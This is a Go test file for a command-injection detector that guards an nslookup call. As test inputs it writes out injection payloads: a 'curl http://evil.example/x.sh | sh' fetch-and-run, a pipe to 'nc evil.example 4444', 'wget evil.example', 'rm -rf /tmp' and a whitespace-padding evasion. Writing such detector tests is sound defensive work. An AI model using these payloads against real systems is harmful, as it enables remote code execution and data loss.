package oscmd

import (
	"context"
	"strings"
	"testing"
	"testing/quick"

	"joza/internal/core"
	"joza/internal/nti"
)

// check runs g.Check under context.Background(), on which it cannot fail.
func check(t *testing.T, g *Guard, cmd string, inputs []nti.Input) core.Verdict {
	t.Helper()
	v, err := g.Check(context.Background(), cmd, inputs)
	if err != nil {
		t.Fatal(err)
	}
	return v
}

func kinds(toks []Token) []TokenKind {
	out := make([]TokenKind, len(toks))
	for i, t := range toks {
		out[i] = t.Kind
	}
	return out
}

func TestLexSimpleCommand(t *testing.T) {
	toks := Lex("tar -czf backup.tar.gz /var/www")
	if len(toks) != 4 {
		t.Fatalf("tokens = %v", toks)
	}
	if toks[0].Kind != KindCommandWord || toks[0].Text != "tar" {
		t.Errorf("command word = %+v", toks[0])
	}
	for _, tok := range toks[1:] {
		if tok.Kind != KindWord {
			t.Errorf("argument lexed as %v: %+v", tok.Kind, tok)
		}
	}
}

func TestLexOperatorsStartNewCommands(t *testing.T) {
	toks := Lex("cat file; rm -rf / && echo done | mail admin")
	var commands []string
	for _, tok := range toks {
		if tok.Kind == KindCommandWord {
			commands = append(commands, tok.Text)
		}
	}
	want := []string{"cat", "rm", "echo", "mail"}
	if strings.Join(commands, " ") != strings.Join(want, " ") {
		t.Errorf("commands = %v, want %v", commands, want)
	}
}

func TestLexSubstitutions(t *testing.T) {
	toks := Lex("echo `id` and $(curl evil.example)")
	var subs []string
	for _, tok := range toks {
		if tok.Kind == KindSubstitution {
			subs = append(subs, tok.Text)
		}
	}
	if len(subs) != 2 || subs[0] != "`id`" || subs[1] != "$(curl evil.example)" {
		t.Errorf("substitutions = %v", subs)
	}
}

func TestLexQuotesAndVariables(t *testing.T) {
	toks := Lex(`grep "a b" 'c d' $HOME ${PATH}`)
	got := kinds(toks)
	want := []TokenKind{KindCommandWord, KindString, KindString, KindVariable, KindVariable}
	if len(got) != len(want) {
		t.Fatalf("kinds = %v", got)
	}
	for i := range want {
		if got[i] != want[i] {
			t.Errorf("kind %d = %v, want %v", i, got[i], want[i])
		}
	}
}

func TestLexRedirection(t *testing.T) {
	toks := Lex("sort data > out.txt 2>> log")
	var ops []string
	for _, tok := range toks {
		if tok.Kind == KindOperator {
			ops = append(ops, tok.Text)
		}
	}
	if len(ops) < 2 || ops[0] != ">" {
		t.Errorf("operators = %v", ops)
	}
}

func TestLexSpansReconstruct(t *testing.T) {
	f := func(s string) bool {
		for _, tok := range Lex(s) {
			if tok.Start < 0 || tok.End > len(s) || tok.Start >= tok.End {
				return false
			}
			if s[tok.Start:tok.End] != tok.Text {
				return false
			}
		}
		return true
	}
	if err := quick.Check(f, &quick.Config{MaxCount: 1500}); err != nil {
		t.Error(err)
	}
}

func TestTokenKindString(t *testing.T) {
	for k, want := range map[TokenKind]string{
		KindWord: "word", KindCommandWord: "command", KindOperator: "operator",
		KindString: "string", KindSubstitution: "substitution",
		KindVariable: "variable", TokenKind(0): "unknown",
	} {
		if k.String() != want {
			t.Errorf("%d.String() = %q, want %q", k, k.String(), want)
		}
	}
}

// appGuard models a program that runs: nslookup <host>
func appGuard() *Guard {
	return New([]string{"nslookup ", "-timeout=2 "})
}

func inputsOf(value string) []nti.Input {
	return []nti.Input{{Source: "get", Name: "host", Value: value}}
}

func TestBenignCommandSafe(t *testing.T) {
	g := appGuard()
	v := check(t, g, "nslookup -timeout=2 example.com", inputsOf("example.com"))
	if v.Attack {
		t.Errorf("benign command flagged: %v", v.Reasons())
	}
}

func TestSeparatorInjectionDetected(t *testing.T) {
	g := appGuard()
	payload := "example.com; rm -rf /tmp"
	v := check(t, g, "nslookup -timeout=2 "+payload, inputsOf(payload))
	if !v.Attack {
		t.Fatal("separator injection missed")
	}
	if !v.NTI.Attack || !v.PTI.Attack {
		t.Errorf("detected by %v, want both", v.DetectedBy())
	}
}

func TestSubstitutionInjectionDetected(t *testing.T) {
	g := appGuard()
	payload := "$(curl http://evil.example/x.sh | sh)"
	v := check(t, g, "nslookup -timeout=2 "+payload, inputsOf(payload))
	if !v.Attack {
		t.Fatal("substitution injection missed")
	}
}

func TestBacktickInjectionDetected(t *testing.T) {
	g := appGuard()
	payload := "`id`"
	v := check(t, g, "nslookup -timeout=2 "+payload, inputsOf(payload))
	if !v.PTI.Attack {
		t.Fatal("backtick substitution must fail PTI")
	}
}

func TestPipeInjectionDetected(t *testing.T) {
	g := appGuard()
	payload := "example.com | nc evil.example 4444"
	v := check(t, g, "nslookup -timeout=2 "+payload, inputsOf(payload))
	if !v.Attack {
		t.Fatal("pipe injection missed")
	}
}

func TestSecondOrderCommandCaughtByPTI(t *testing.T) {
	// Payload arrived from storage, inputs unrelated: NTI blind, PTI not.
	g := appGuard()
	v := check(t, g, "nslookup -timeout=2 example.com; wget evil.example", inputsOf("unrelated"))
	if v.NTI.Attack {
		t.Error("NTI should miss (inputs unrelated)")
	}
	if !v.PTI.Attack {
		t.Error("PTI must catch the stored payload")
	}
}

func TestVocabularyCommandAttackCaughtByNTI(t *testing.T) {
	// The program's own fragments contain "; " and "sync" (it legitimately
	// chains commands), so PTI misses a tautology-style chain rebuilt from
	// them — NTI catches it because the input appears verbatim.
	g := New([]string{"nslookup ", "; ", "sync"})
	payload := "example.com; sync"
	v := check(t, g, "nslookup "+payload, inputsOf(payload))
	if v.PTI.Attack {
		t.Errorf("PTI should miss the vocabulary attack: %v", v.PTI.Reasons)
	}
	if !v.NTI.Attack {
		t.Error("NTI must catch the verbatim payload")
	}
	if !v.Attack {
		t.Error("hybrid must block")
	}
}

func TestFragmentFiltering(t *testing.T) {
	g := New([]string{"", "ls ", "ls ", "   ", "grep "})
	// "ls " kept once (duplicate dropped), "grep " kept; "" and the
	// all-whitespace fragment lex to no tokens and are dropped.
	if g.FragmentCount() != 2 {
		t.Errorf("fragments = %d, want 2", g.FragmentCount())
	}
}

func TestThresholdOption(t *testing.T) {
	g := New([]string{"ping "}, WithThreshold(0.5))
	if g.threshold != 0.5 {
		t.Errorf("threshold = %v", g.threshold)
	}
}

func TestArgumentInjectionNotFlagged(t *testing.T) {
	// A benign filename that merely looks odd must not trip either
	// analyzer: no critical token derives from it.
	g := appGuard()
	v := check(t, g, "nslookup -timeout=2 my-host.example.com", inputsOf("my-host.example.com"))
	if v.Attack {
		t.Errorf("benign hostname flagged: %v", v.Reasons())
	}
}

func TestWhitespaceStuffingEvadesNTIButNotPTI(t *testing.T) {
	// The command-injection analogue of the SQL evasion: the app trims
	// input, the attacker pads. NTI misses; PTI catches the separator.
	g := appGuard()
	payload := "example.com; reboot" + strings.Repeat(" ", 30)
	trimmed := strings.TrimSpace(payload)
	v := check(t, g, "nslookup -timeout=2 "+trimmed, inputsOf(payload))
	if v.NTI.Attack {
		t.Error("padded input should evade NTI")
	}
	if !v.PTI.Attack {
		t.Error("PTI must catch the separator")
	}
	if !v.Attack {
		t.Error("hybrid must block")
	}
}
